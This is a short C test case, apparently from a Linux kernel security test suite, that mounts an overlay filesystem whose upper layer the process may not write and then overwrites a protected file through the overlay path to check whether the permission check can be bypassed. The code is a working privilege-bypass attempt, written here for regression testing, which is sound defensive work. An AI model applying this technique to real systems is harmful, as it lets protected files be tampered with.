// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2. Mounts an overlay in /tmp whose upper layer is a directory that it may not write, and writes
 * there by the overlay's name: the overlay writes to its layer by itself. Source: 6.12 survey,
 * "overlayfs: judge the inode that holds the data". Control: the protected file has changed.
 */
#define _GNU_SOURCE
#include <sys/mount.h>

#include "attack.h"
#include "files.h"
#include "mounts.h"

void attack(void)
{
	struct kept kept;
	int error;

	stage("files");
	kept = keep(SHM "/layer/protected");
	make_directory("/tmp/lab-view");
	mount_new("tmpfs", "/tmp/lab-lower");
	if (mount("none", "/tmp/lab-view", "overlay", 0,
		  "lowerdir=/tmp/lab-lower,upperdir=" SHM "/layer,workdir=" SHM "/own"))
		no_effect(errno);
	error = overwrite("/tmp/lab-view/protected");
	umount2("/tmp/lab-view", MNT_DETACH);
	judge_change(&kept, error);
}
